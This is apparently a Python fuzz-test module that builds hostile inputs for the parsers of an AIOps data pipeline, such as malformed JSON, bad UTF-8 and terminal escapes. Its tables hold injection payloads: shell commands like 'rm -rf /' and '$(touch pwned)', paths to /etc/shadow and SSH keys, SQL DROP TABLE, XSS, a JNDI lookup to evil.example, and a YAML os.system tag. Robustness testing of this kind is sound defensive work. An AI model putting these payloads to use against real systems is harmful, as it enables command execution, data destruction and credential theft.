"""The hostile cases, made from short tables: nothing of it is a file.

A case is a stream of lines for what reads records, and tokens (JSON texts) for what reads documents: these stand there in
place of a good value, one at a time. A case without tokens is itself the document.
"""
import dataclasses
import glob
import json
import os

import torture
from hostile_records import INCIDENT, RECORDS, another, everywhere, paths, planted

SUITE = os.path.join(os.environ.get("AIOPS_DATA", os.path.join(torture.ROOT, "../shared/data")), "vectors/json-test-suite")
LINE_MAX = 1 << 20


@dataclasses.dataclass
class Case:
    group: str
    name: str
    stream: bytes
    tokens: tuple = ()


def quoted(text):
    """A JSON string of the text: raw but for what JSON forbids raw."""
    return json.dumps(text, ensure_ascii=False).encode("utf-8", "surrogatepass")


def good(n=0):
    return json.dumps(RECORDS[n], separators=(",", ":")).encode()


def member(token):
    """A record with one more member."""
    return good()[:-1] + b',"member":' + token + b"}"


def among(*lines, end=b"\n"):
    """The lines between two good records."""
    return b"\n".join((good(0), *lines, good(1))) + end


# ---- JSON: what a parser must take and refuse ----

ATOMS = {
    "literals": b"tru|True|TRUE|nul|NULL|None|undefined|fals|truefalse|nan|NaN|-NaN|Infinity|-Infinity|inf|true1|n|t|f|'x'|x|.|,|:|;|&|*|@|#x|//x|/*x*/1",
    "numbers": b"01|-01|00|-|+1|--1|1.|.5|-.5|1.e1|1e|1e+|1e-|1E+-2|1e1.5|0x10|0X1|0b1|0o7|1_000|1,000|1 2|1a|1e5x|-x|1.2.3|+0|++1|0e|0.e1|\xef\xbc\x91|2.e3|1eE2|-+1|9.e+|[1.]|-1x",
    "good numbers": b"0|-0|-0.0|0e0|0E+0|1e1|1E-1|1e+1|123456789012345678901234567890123456789|-9223372036854775809|18446744073709551616|9007199254740991"
                    b"|9007199254740992|9007199254740993|-9007199254740993|1e308|1e309|1e400|-1e400|1e-400|4.9e-324|2.2250738585072011e-308|0.1|1.7976931348623157e308"
                    b"|1e999999999|1e-999999999|0.30000000000000004|100000000000000000000000e-20|2147483648|-2147483649|4294967296|9223372036854775807|-9223372036854775808"
                    b"|9223372036854775808|18446744073709551615|1e18|1e19|123.456e789|5e-324",
    "structure": b"[|]|[1|[1,|[1,]|[,1]|[1,,2]|[1 2]|[1:2]|[\"\"|{|}|{\"a\"|{\"a\":|{\"a\":1|{\"a\":1,|{\"a\":1,}|{,}|{,\"a\":1}|{\"a\" 1}|{\"a\",1}|{a:1}|{'a':1}|{1:1}"
                 b"|{null:1}|{\"a\":1 \"b\":2}|{\"a\"::1}|{\"a\":1;\"b\":2}|[1}|{\"a\":1]|[[]|{\"a\":{}|[]]|{}}|{\"a\":1}{\"b\":2}|[1][2]|1,2|{\"a\":/*c*/1}|{\"a\":1}#|(1)|<null>|[1]x"
                 b"|{\"a\":1,\"a\":2}|{\"a\":1,\"\\u0061\":2}|{\"\":1,\"\":2}|{\"x\":{\"a\":1,\"a\":1}}|[{\"a\":1,\"b\":2,\"a\":3}]|{\"__proto__\":1}|[[],{},[{}]]|{\"a\":[]}|[[[[]]]]|{}|[]|[ ]|{ }",
    "strings": rb'"|"a|a"|"\|"\"|"\x41"|"\a"|"\u"|"\u1"|"\u12"|"\u123"|"\u123g"|"\U0041"|"\u 041"|"\ud800"|"\udc00"|"\ud800\u0041"|"\ud800\ud800"|"\udc00\ud800"|"\ud800x"|"\0"|"\8"|"\'"'
               rb'|"a\qb"|""x""|"a" "b"|"\u0000"|"\u001f"|"\u007f"|"\u0080"|"\u009b"|"\u202e"|"\ufeff"|"\ufffe"|"\uffff"|"\ud83d\ude00"|"\/"|"\b\f\n\r\t"|"\u0022\u005c"|"\\"|"\u0061"|""|"\\u0000"'
               rb'|"\ud834\udd1e"|"\uD83D\uDE00\u0301"',
}


def json_cases():
    for group, table in ATOMS.items():
        for atom in table.split(b"|"):
            name = f"{group}: {atom.decode(errors='backslashreplace')}"
            yield Case("JSON", f"{name}, as a member", among(member(atom)), (atom,))
            yield Case("JSON", f"{name}, as a line", among(atom), ())
    for space in (b"\x0b", b"\x0c", b"\xc2\xa0", b"\xe2\x80\x83", b"\xe2\x81\xa0", b"\xe3\x80\x80", b"\xc2\x85", b"\x1e"):
        yield Case("JSON", f"a space that is none: {space.hex()}", among(b"{" + space + b'"a":1}', good() + space, space + good()))
    yield Case("JSON", "spaces where they may stand", among(b' \t{ \t"a" \t: \t[ ] \t, "b":{ } } \t'))


def suite_cases():
    """JSONTestSuite (github.com/nst/JSONTestSuite), where it is: as a member of a record, and as it is."""
    for path in sorted(glob.glob(SUITE + "/[nyi]_*.json")):
        with open(path, "rb") as f:
            text = f.read()
        token = text if len(text) < 4096 and b"\n" not in text else None
        yield Case("JSONTestSuite", os.path.basename(path), member(text) + b"\n" + text + b"\n", (token,) if token else ())


# ---- bytes ----

BAD_UTF8 = {
    "lone continuation": "80", "two continuations": "bfbf", "overlong NUL": "c080", "overlong slash": "c0af", "overlong in three": "e080af",
    "overlong in four": "f08080af", "overlong U+7FF": "e09fbf", "overlong U+FFFF": "f08fbfbf", "high surrogate": "eda080", "low surrogate": "edb080",
    "a pair of surrogates (CESU-8)": "eda0bdedb880", "beyond U+10FFFF": "f4908080", "five bytes": "f888808080", "six bytes": "fc8480808080",
    "FE": "fe", "FF": "ff", "cut in two": "c3", "cut in three": "e282", "cut in four": "f09f98", "cut before a quote": "e2", "C1": "9b", "Latin-1": "e4f6fc"}
MARKS = {"UTF-8 mark": "efbbbf", "UTF-16LE mark": "fffe", "UTF-16BE mark": "feff", "UTF-32 mark": "fffe0000"}


def byte_cases():
    for byte in [*range(0x20), 0x7f]:
        b = bytes([byte])
        yield Case("bytes", f"raw {byte:02x} in a string, a name and outside", among(
            member(b'"a' + b + b'b"'), member(b"1").replace(b'"member"', b'"mem' + b + b'ber"'), b + good(), good() + b), (b'"a' + b + b'b"',))
    for byte in range(0x20):
        yield Case("bytes", f"escaped {byte:02x} in every string", everywhere(b'"a\\u00%02xb"' % byte), (b'"a\\u00%02xb"' % byte,))
    for name, code in BAD_UTF8.items():
        b = bytes.fromhex(code)
        yield Case("bytes", f"bad UTF-8, {name}: in strings", everywhere(b'"a' + b + b'b"'), (b'"a' + b + b'b"',))
        yield Case("bytes", f"bad UTF-8, {name}: in a name, at the end, alone", among(
            member(b"1").replace(b'"member"', b'"m' + b + b'"'), good() + b, b, b'"' + b))
    for name, code in MARKS.items():
        b = bytes.fromhex(code)
        yield Case("bytes", f"{name} before everything", b + among())
        yield Case("bytes", f"{name} before each line", b"".join(b + good(n) + b"\n" for n in range(4)))
    for coding in ("utf-16-le", "utf-16-be", "utf-32-le", "utf-7"):
        yield Case("bytes", f"all of it in {coding}", (among()).decode().encode(coding))
    yield Case("bytes", "every byte once", bytes(range(256)) * 4)
    yield Case("bytes", "an ELF header", b"\x7fELF\x02\x01\x01" + bytes(57) + among())
    yield Case("bytes", "gzip", bytes.fromhex("1f8b0800000000000003abae050043bfa6a302000000"))
    yield Case("bytes", "an SQLite file's header", b"SQLite format 3\x00\x10\x00\x01\x01\x00\x40\x20\x20" + bytes(76))
    yield Case("bytes", "NUL bytes alone", bytes(65536))
    yield Case("bytes", "NUL after a record", among(good() + b"\x00", good() + b"\x00" + good(), good()[:-1] + b"\x00}"))


# ---- texts: what a terminal, a shell, a page or a file system would obey ----

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"
TERMINAL = {
    "clear": ESC + "[2J" + ESC + "[H", "colour": ESC + "[31mred" + ESC + "[0m", "hidden": ESC + "[8mhidden", "cursor up": ESC + "[99A" + ESC + "[2K", "title": ESC + "]0;pwned" + BEL,
    "icon, ST": ESC + "]1;x" + ST, "link": ESC + "]8;;http://evil.example/" + ST + "click" + ESC + "]8;;" + ST, "clipboard": ESC + "]52;c;cm0gLXJmIC8=" + BEL,
    "clipboard, asked": ESC + "]52;c;?" + BEL, "palette": ESC + "]4;0;?" + BEL, "folder": ESC + "]7;file:///etc" + BEL, "notify": ESC + "]9;hi" + BEL, "iTerm file": ESC + "]1337;File=:AAAA" + BEL,
    "DCS": ESC + "P$q\"p" + ST, "sixel": ESC + "Pq#0;2;0;0;0~" + ST, "tmux": ESC + "Ptmux;" + ESC + ESC + "]52;c;AA==" + BEL + ST, "APC": ESC + "_Gf=24;AAAA" + ST, "PM": ESC + "^x" + ST,
    "SOS": ESC + "Xx" + ST, "status asked": ESC + "[6n", "answer back": "\x05", "device asked": ESC + "[c", "window title asked": ESC + "[21t", "reset": ESC + "c", "alternate screen": ESC + "[?1049h",
    "mouse": ESC + "[?1003h", "bracketed paste": ESC + "[201~rm -rf /\n", "charset": ESC + "(0qqq", "shift out": "\x0eqqq\x0f", "keys to application": ESC + "=" + ESC + "[?1h",
    "return": "harmless\rrm -rf /", "back spaces": "safe\b\b\b\bevil", "form feed": "\f\v", "tabs and lines": "a\tb\nc\r\nd", "bell": BEL * 9, "cancel": "\x18\x1a", "delete": "\x7f" * 9,
    "CSI in C1": "\x9b2J\x9bH", "OSC in C1": "\x9d0;pwned\x9c", "OSC 52 in C1": "\x9d52;c;cm0=\x9c", "OSC 8 in C1": "\x9d8;;http://evil.example/\x9cx\x9d8;;\x9c", "DCS in C1": "\x90q\x9c", "APC in C1": "\x9fx\x9c",
    "next line in C1": "a\x85b\x84c", "all of C1": "".join(map(chr, range(0x80, 0xa0))), "all of C0": "".join(map(chr, range(0x20))), "a lone ESC": ESC, "ESC at the end": "x" + ESC, "half a CSI": ESC + "[3",
    "a long parameter": ESC + "[" + "9" * 500 + "m", "hyper long OSC": ESC + "]0;" + "A" * 5000,
}
SCRIPT = {
    "override": "abc\u202edcba\u202c", "embedding": "\u202aabc\u202b\u202c", "LRO": "\u202dabc", "isolates": "\u2066a\u2067b\u2068c\u2069", "marks": "\u200ea\u200fb\u061cc", "unclosed": "\u202e" * 50,
    "zero width": "a\u200bb\u200cc\u200dd\u2060e", "mark inside": "a\ufeffb", "soft hyphen": "pass\u00adword", "line separators": "a\u2028b\u2029c", "combining": "a" + "\u0301" * 500, "Zalgo": "e\u0315\u0354\u0317" * 80,
    "tags": "".join(chr(0xe0000 + ord(c)) for c in "evil"), "variation": "a\ufe0f\U000e0100", "noncharacters": "\ufdd0\ufffe\uffff\U0010ffff", "private": "\ue000\uf8ff\U000f0000", "wide": "\uff21\uff22" * 40,
    "homoglyphs": "р\u0430yment-\u0430pi", "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 20, "astral": "\U0001d54f\U00020000", "right to left": "\u05d0\u05d1\u0627\u0628 123", "interlinear": "\ufff9a\ufffab\ufffb",
    "invisible operators": "\u2061\u2062\u2063\u2064", "deprecated formats": "\u206a\u206b\u206c\u206d\u206e\u206f", "Mongolian": "a\u180eb", "fillers": "\u115f\u1160\u3164\uffa0", "object": "\ufffc\ufffd", "Turkish": "\u0130I\u0131i",
}
WORDS = {
    "paths": ["../../../../etc/passwd", "/etc/shadow", "/dev/zero", "/dev/stdin", "/proc/self/mem", "..", ".", "/", "~root", "~/.ssh/id_rsa", "a/../../b", "..\\..\\win.ini", "C:\\x", "\\\\host\\share", "file:///etc/passwd",
              "CON", "a" * 300, "a/" * 3000, "./-rf", "--help", "-", "--", "-e", "--config=/dev/zero", "@/etc/passwd", "%2e%2e%2f", "x\x00.png", "*", "?[a-z]", "{a,b}"],
    "shells": ["$(touch pwned)", "`touch pwned`", "; touch pwned", "| sh", "&& reboot", "a\nb; reboot", "${IFS}x", "$HOME", "$((1/0))", "'; reboot; '", '"; reboot; "', "() { :;}; echo x", "> /etc/x", "< /dev/zero",
               "!!", "\\", "x\\", "%n%n%s%s", "%999999999d", "{{component}}", "{{ env.HOME }}", "{{{{x}}}}", "{component}", "${component}", "#{x}", "<%= x %>", "${jndi:ldap://evil.example/a}", "{{", "}}", "{{a", "{%x%}"],
    "queries": ["' OR 1=1 --", "'; DROP TABLE aiops_audit; --", "\" OR \"\"=\"", "NULL", "null", "%' --", "a'||'b", "NEAR(a b)", "a AND", "\"", "*", "-a", "a:b", "^x", "(", "a\"b*", "x'00'", "(a+)+$", "(?R)", "[", "\\", "(?<n>", "a{1,65535}{1,65535}",
                "((((((((((((((((((((", "\\E\\Q", "(?C1)", ".*" * 300],
    "pages": ["<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "</title></style><svg onload=x>", "javascript:alert(1)", "&lt;b&gt;", "<!--", "-->", "]]>", "<!DOCTYPE x [<!ENTITY a \"b\">]>", "data:text/html,<script>x</script>",
              "[x](javascript:alert(1))", "![x](http://evil.example/p)", "| a | b |", "# title", "```", "---", "* * *", "> quote", "<https://evil.example>", "=HYPERLINK(\"http://evil.example\")", "=1+1", "+1", "-1", "@SUM(1)",
              "a,b", "a\"b", "a;b", "x\r\nSet-Cookie: a=b", "http://0x7f.1:1/", "http://[::ffff:127.0.0.1]:1/", "http://2130706433:1/", "http://user:pw@127.0.0.1:1/", "gopher://127.0.0.1:1/", "http://x\r\nHost: y/"],
    "words": ["true", "false", "null", "NaN", "Infinity", "undefined", "0", "-0", "1e400", "0x41414141", "__proto__", "constructor", "toString", " ", "  x  ", "\t", "\n", "\\n", "\\u0000", "\x00", "a\x00b", "{\"_barrier\":1}", "{\"kind\":\"alert\"}", "yes", "no",
              "on", "~", "!!int 1", "&a", "*a", "<<", "- a", "a: b", ": ", "# x", "? x", "|", ">", "%YAML 1.2", "---", "...", "'", "\"", ",", "[]", "{}", "critical", "INC-", INCIDENT, "RUN-7Q2M4T8VW0X1Y2Z3", "aiops-audit", "sev0", "SEV99"],
}


def text_cases():
    for group, table in (("terminal", TERMINAL), ("script", SCRIPT)):
        for name, text in table.items():
            yield Case(group, name, everywhere(quoted(text)), (quoted(text),))
    for name, texts in WORDS.items():
        for text in texts:
            yield Case(name, text[:40].encode("unicode_escape").decode(), everywhere(quoted(text)), (quoted(text),))


# ---- fields ----

WRONG = (b"null", b"true", b"0", b"-1", b"1e400", b'""', b'"x"', b"[]", b"[[]]", b"[null]", b"{}", b'{"":null}', b'{"a":{"b":[1]}}')
NUMBERS = (b"-0", b"-0.0", b"1e400", b"-1e400", b"1e-400", b"9007199254740991", b"9007199254740993", b"-9007199254740993", b"9223372036854775808", b"-9223372036854775809", b"18446744073709551616", b"1e19", b"1e308",
           b"-1e308", b"4.9e-324", b"2147483648", b"4294967296", b"-1", b"0.5", b"1e-9", b"1.0", b"1" + b"0" * 400, b"0." + b"0" * 400 + b"1", b"9" * 5000, b"1e999999999999999999999")
TIMES = ("", "0", "now", "today", "0000-00-00T00:00:00Z", "0000-01-01T00:00:00Z", "0001-01-01T00:00:00Z", "1582-10-10T00:00:00Z", "1677-09-21T00:12:43Z", "1969-12-31T23:59:59.999999999Z", "1970-01-01T00:00:00Z", "1900-02-29T00:00:00Z",
         "2038-01-19T03:14:08Z", "2100-02-29T00:00:00Z", "2262-04-11T23:47:16.854775807Z", "2262-04-11T23:47:16.854775808Z", "9999-12-31T23:59:59.999999999Z", "10000-01-01T00:00:00Z", "-0001-01-01T00:00:00Z", "+12026-11-21T09:00:00Z",
         "292277026596-12-04T15:30:08Z", "2016-12-31T23:59:60Z", "2026-11-21T23:59:60Z", "2026-11-21T09:00:61Z", "2026-11-21T24:00:00Z", "2026-11-21T25:00:00Z", "2026-13-01T00:00:00Z", "2026-02-30T00:00:00Z", "2026-00-10T00:00:00Z",
         "2026-11-21T09:60:00Z", "2026-11-21T09:00:00", "2026-11-21T09:00:00+24:00", "2026-11-21T09:00:00-23:59", "2026-11-21T09:00:00+99:99", "2026-11-21T09:00:00z", "2026-11-21t09:00:00Z", "2026-11-21 09:00:00Z", "2026-11-21",
         "2026-W47-6", "2026-11-21T09:00:00.Z", "2026-11-21T09:00:00." + "1" * 400 + "Z", "2026-11-21T09:00:00,5Z", " 2026-11-21T09:00:00Z", "2026-11-21T09:00:00Z ", "2026-11-21T09:00:00Z\x00", "2026-11-21T09:00:00ZZ", "1795251600", "1795251600000",
         "2026-11-21T09:00:00[Europe/Berlin]", "21/Nov/2026:09:00:00 +0000")
TIME_KEYS = ("timestamp", "starts_at", "ends_at", "last_seen", "observed")


def field_cases():
    number = 0
    for rec in RECORDS:
        for path, _ in paths(rec):
            name = ".".join(map(str, path))
            lines = [planted(another(rec, n), [path], wrong) for n, wrong in enumerate(WRONG)]
            lines.append(json.dumps({k: v for k, v in rec.items() if (k,) != path}, separators=(",", ":")).encode())
            yield Case("types", f"{rec['kind']}.{name}", b"\n".join(lines) + b"\n", (WRONG[number % len(WRONG)],))
            number += 1
    for token in NUMBERS:
        lines = everywhere(token, (int, float)) + b"\n".join(planted(rec, [("timestamp",)], token) for rec in RECORDS) + b"\n"
        yield Case("numbers", token[:40].decode(), lines, (token,))
    for text in TIMES:
        lines = []
        for rec in RECORDS:
            lines += [planted(dict(another(rec, n), **{key: ""}), [(key,)], quoted(text)) for n, key in enumerate(TIME_KEYS)]
            lines.append(planted(dict(another(rec, len(TIME_KEYS)), starts_at="", ends_at=""), [("starts_at",), ("ends_at",), ("timestamp",)], quoted(text)))
        yield Case("times", text[:40].encode("unicode_escape").decode(), b"\n".join(lines) + b"\n", (quoted(text),))
    forth = [dict(RECORDS[0], id=f"t-{n}", timestamp=f"{year:04}-01-01T00:00:00Z", starts_at=f"{year:04}-01-01T00:00:00Z")
             for n, year in enumerate((2026, 1970, 9999, 1, 2026, 2262, 1677, 2026))]
    yield Case("times", "to and fro through the ages", b"".join(json.dumps(r).encode() + b"\n" for r in forth))


# ---- shapes and sizes ----

def nested(kind, depth):
    opened, closed = {"arrays": (b"[", b"]"), "objects": (b'{"a":', b"}"), "mixed": (b'[{"a":', b"}]"), "unclosed": (b"[", b""), "objects unclosed": (b'{"a":', b"")}[kind]
    n = depth // 2 if kind == "mixed" else depth
    return opened * n + b"0" + closed * n


def ids(n, **fields):
    return b"".join(json.dumps(dict(RECORDS[i % 2], id=fields.get("id", f"i-{i}"), title=str(i)), separators=(",", ":")).encode() + b"\n" for i in range(n))


def labelled(n):
    return json.dumps(dict(RECORDS[0], labels={f"label{i}": str(i) for i in range(n)}), separators=(",", ":")).encode()


def sized(total):
    """A good record of so many bytes."""
    line = member(b'""')
    return line[:-2] + b"x" * (total - len(line)) + line[-2:]


def size_cases():
    for kind in ("arrays", "objects", "mixed", "unclosed", "objects unclosed"):
        for depth in (10, 62, 63, 64, 65, 100, 1000, 10_000, 100_000, 1_000_000):
            token = nested(kind, depth)
            yield Case("nesting", f"{depth} {kind}", among(member(token), token), (token,) if len(token) < 200_000 else ())
    for size in (LINE_MAX - 1, LINE_MAX, LINE_MAX + 1, 2 * LINE_MAX, 10 * LINE_MAX):
        yield Case("sizes", f"a line of {size} bytes", among(sized(size)))
        yield Case("sizes", f"{size} bytes of one character", b"x" * size)
    for n in (1000, 60_000, 900_000):
        for what, text in (("string", b'"' + b"a" * n + b'"'), ("escapes", b'"' + b"\\u0041" * (n // 6) + b'"'), ("number", b"1" * n), ("array", b"[" + b"0," * (n // 2) + b"0]"),
                           ("array of objects", b"[" + b"{}," * (n // 3) + b"{}]"), ("name", b'{"' + b"n" * n + b'":1}'), ("quotes", b'"' + b'\\"' * (n // 2) + b'"'),
                           ("names", b"{" + b",".join(b'"%x":1' % i for i in range(n // 10)) + b"}"), ("spaces", b" " * n + b"1")):
            yield Case("sizes", f"{what} of {n} bytes", among(member(text)), (text,) if n < 100_000 else ())
    for n in (100, 1000, 10_000, 40_000):
        yield Case("sizes", f"{n} labels", among(labelled(n)))
    yield Case("sizes", "a name, a title and a label of 100 kB", everywhere(quoted("n" * 100_000))[:8 * LINE_MAX], (quoted("n" * 100_000),))
    for n in (2, 1000, 20_000):
        yield Case("ids", f"{n} records of one id and another content", ids(n, id="same"))
    yield Case("ids", "20000 records, each of an id of its own", ids(20_000))
    for name in ("", " ", "a" * 10_000, "../x", INCIDENT + "#1", "#", "a\x00b", "\u00e9", "e\u0301"):
        yield Case("ids", f"id {name[:20]!r}", b"".join(planted(rec, [("id",)], quoted(name)) + b"\n" for rec in RECORDS) * 2, (quoted(name),))
    yield Case("ids", "one incident in all its revisions, backwards", b"".join(
        json.dumps(dict(RECORDS[9], id=f"{INCIDENT}#{n}", revision=n, title=str(n))).encode() + b"\n" for n in range(300, 0, -1)))
    yield Case("ids", "incidents merged into each other", b"".join(
        json.dumps(dict(RECORDS[9], id=f"INC-{a}#1", incident=f"INC-{a}", change="merged", merged=[f"INC-{b}"])).encode() + b"\n" for a, b in ("AB", "BA", "AA", "BC", "CA")))


def framing_cases():
    g = good()
    for name, text in {
            "nothing": b"", "one newline": b"\n", "newlines": b"\n" * 100_000, "spaces": b" \t \n" * 1000, "no last newline": among(end=b""), "CR LF": among().replace(b"\n", b"\r\n"),
            "CR alone": among().replace(b"\n", b"\r"), "LF CR": among().replace(b"\n", b"\n\r"), "CR LF, no last": among(end=b"").replace(b"\n", b"\r\n"), "two in a line": g + g + b"\n",
            "a line begun": g[:-1], "half a line each": g[:40] + b"\n" + g[40:] + b"\n", "an array of records": b"[" + g + b"," + g + b"]\n", "an array over lines": b"[\n" + g + b",\n" + g + b"\n]\n", "RS framed": b"\x1e" + g + b"\n",
            "pretty": json.dumps(RECORDS[0], indent=2).encode() + b"\n", "comments": b"# x\n// y\n" + g + b"\n", "a control line that is none": b'{"_barrier"\n{"_barrier":}\n{"_":1}\n{"_x":"\xff"}\n', "barriers": (b'{"_barrier":%d}\n' * 50) % tuple(range(50)),
            "a watermark of no time": b'{"_watermark":"never"}\n{"_watermark":null}\n{"_watermark":{}}\n{"_watermark":"9999-12-31T23:59:59Z"}\n' + g + b"\n", "a watermark backwards": b'{"_watermark":"2026-11-21T09:00:00Z"}\n{"_watermark":"0001-01-01T00:00:00Z"}\n' + g + b"\n",
            "a long control line": b'{"_barrier":"' + b"x" * LINE_MAX + b'"}\n', "one byte": b"{", "a quote": b'"', "a backslash": b"\\", "HTTP": b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", "XML": b"<?xml version='1.0'?><a/>\n",
            "a shell script": b"#!/bin/sh\necho hostile\n", "a log": b"Nov 21 09:00:00 db-1 postgres[1]: FATAL: too many clients\n" * 200, "a log with escapes": (b"Nov 21 09:00:00 db-1 x[1]: " + ESC.encode() + b"[2J\x9b31m \xe2\x80\xae\n") * 50,
            "CSV": b"kind,timestamp,value\nmetric,2026-11-21T09:00:00Z,1\n\"a\n,b", "Prometheus text": b"# TYPE a counter\na{b=\"c\\\"\"} 1 99999999999999999999\na NaN\n", "syslog": b"<999>1 - - - - - -\n<0>\n<34>1 2026-11-21T09:00:00Z h a - - [x y=\"\\]\"] \xef\xbb\xbfm\n",
    }.items():
        yield Case("framing", name, text)


# ---- YAML, for what reads it ----

YAML = {
    "aliases that multiply": "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(f"{c}: &{c} [" + ",".join(["*" + p] * 9) + "]\n" for p, c in zip("abcdefgh", "bcdefghi")),
    "an alias of itself": "a: &a [*a]\n", "merge keys": "a: &a {x: 1}\nb: {<<: *a}\n", "an unknown alias": "a: *nobody\n", "an anchor": "version: &v 1\n", "tags": "a: !!python/object/apply:os.system ['x']\n", "a binary tag": "a: !!binary AAAA\n",
    "a local tag": "a: !x 1\n", "a tag directive": "%TAG ! tag:evil.example,2026:\n---\na: !x 1\n", "a version directive": "%YAML 9.9\n---\na: 1\n", "two documents": "a: 1\n---\nb: 2\n", "a document end": "a: 1\n...\nrubbish\n", "100000 flow arrays": "[" * 100_000,
    "100000 flow maps": "{a: " * 60_000, "10000 block levels": "".join(" " * i + "a:\n" for i in range(700)), "a sequence of sequences": "- " * 100_000, "complex keys": "? [a, b]\n: c\n? {x: y}\n: z\n", "a duplicate key": "version: 1\nversion: 1\n",
    "30000 keys": "".join(f"k{i}: 1\n" for i in range(20_000)), "30000 equal keys": "k: 1\n" * 30_000, "tabs": "a:\n\t- b\n", "a huge scalar": "a: " + "x" * 250_000, "more than 256 KiB": "a: |\n" + "  x\n" * 80_000, "a block without end": "a: |9\n x\n", "an empty key": ": 1\n",
    "a null document": "~\n", "a scalar document": "hello\n", "a list document": "- 1\n- 2\n", "an unclosed quote": "a: 'x\n", "an unclosed flow": "a: [1, 2\n", "escapes in quotes": 'a: "\\x1b[2J\\u202e\\U0001F600\\0"\n', "a bad escape": 'a: "\\q"\n', "NEL and LS": "a: 1\u0085b: 2\u2028c: 3\n",
    "no space": "a:1\nb:2\n", "indicators": "@x: 1\n`y: 2\n", "a colon in a key": "a: b: c: d\n", "octal and sexagesimal": "a: 0777\nb: 190:20:30\nc: 0o17\nd: 1_000\n", "Norway": "a: NO\nb: y\n", "infinities": "a: .inf\nb: -.INF\nc: .NaN\n", "dates": "a: 2026-02-30\n",
    "a folded storm": "a: >\n" + "\n" * 50_000, "comments alone": "# x\n" * 10_000, "a mark in the middle": "a: 1\n\ufeffb: 2\n", "control bytes": "a: \x01\x02\x1b[2J\n", "a NUL": "a: 1\x00\nb: 2\n", "CR alone": "a: 1\rb: 2\r", "a long key": "k" * 5000 + ": 1\n", "a key over lines": '"a\n b": 1\n',
}


def yaml_cases():
    for name, text in YAML.items():
        yield Case("YAML", name, text.encode())


def all_cases():
    for make in (json_cases, byte_cases, text_cases, field_cases, size_cases, framing_cases, yaml_cases, suite_cases):
        yield from make()
